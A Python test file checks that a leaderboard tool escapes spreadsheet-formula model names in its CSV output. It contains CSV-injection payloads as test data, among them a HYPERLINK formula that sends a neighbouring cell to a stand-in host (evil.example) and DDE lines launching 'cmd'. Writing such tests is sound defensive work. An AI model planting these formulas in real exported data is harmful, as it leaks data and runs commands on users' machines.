"""Model names that are spreadsheet formulas, in the board glc writes as CSV.

Model names come from imported files (untrusted). ``glc leaderboard --format csv`` (and ``glc run
--format csv``) is meant to be opened in a spreadsheet, which runs a cell starting with ``=``, ``+``,
``-`` or ``@`` as a formula: ``=HYPERLINK("https://evil.example/?"&B3, "details")`` sends the cell next
to it to a stranger's server when clicked, ``=WEBSERVICE(...)`` without a click in some. Such a cell is
written with a leading ``'``; the JSON form keeps every name exact.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from helpers.project import EXAMPLES  # tests/conftest.py, put on sys.path by pytest

from glc.workspace import Workspace

# what a spreadsheet reads as the start of a formula (tab and carriage return: some strip them first;
# the full-width forms: East Asian locales read them as the ASCII ones)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&B3,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(\"https://evil.example\")",  # a full-width '='
]


def _hostile_scores(ws: Workspace, dest: Path) -> Path:
    cells = ws.read_scores(EXAMPLES / "c04_sota_beater.xlsx").cells
    with dest.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["model", "task", "score"])
        for name in FORMULAS:
            out.writerows([name, c.task_id, c.raw_value] for c in cells)
    return dest


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formula_cells_are_text_in_csv_rows() -> None:
    """The CSV form of board rows, without a store."""
    from glc.analysis.leaderboard import COLUMNS, render

    rows = [{c: None for c in COLUMNS} | {"rank": i + 1, "model": name, "variant": "pooled", "scope": "all",
                                          "level_2": -0.5 if i == 0 else 12.5, "level": 2}
            for i, name in enumerate(FORMULAS)]
    parsed = list(csv.DictReader(io.StringIO(render(rows, "csv"))))
    assert [r["model"] for r in parsed] == ["'" + name for name in FORMULAS]
    assert [r["level_2"] for r in parsed][:2] == ["-0.5", "12.5"]  # a number stays a number, sign and all
    assert [r["model"] for r in json.loads(render(rows, "json"))] == FORMULAS


def test_formula_names_are_text_in_the_csv_board(ws: Workspace, tmp_path: Path) -> None:
    from glc.analysis.leaderboard import render

    ws.import_scores(_hostile_scores(ws, tmp_path / "scores.csv"))
    ws.run()
    rows, intervals = ws.board()
    assert {r["model"] for r in rows} == set(FORMULAS), "the importer changed a name"
    text = render(rows, "csv", intervals)
    parsed = list(csv.reader(io.StringIO(text)))
    starts = [cell for row in parsed for cell in row if cell.startswith(FORMULA_START) and not _number(cell)]
    assert not starts, f"cells a spreadsheet would run as formulas: {starts}"
    models = [row[parsed[0].index("model")] for row in parsed[1:]]
    assert sorted(m.removeprefix("'") for m in models) == sorted(FORMULAS)  # shown as text, otherwise unchanged
    assert {r["model"] for r in json.loads(render(rows, "json", intervals))} == set(FORMULAS)  # JSON: exact
    assert any(row[parsed[0].index("level_2")] for row in parsed[1:])  # numbers are numbers
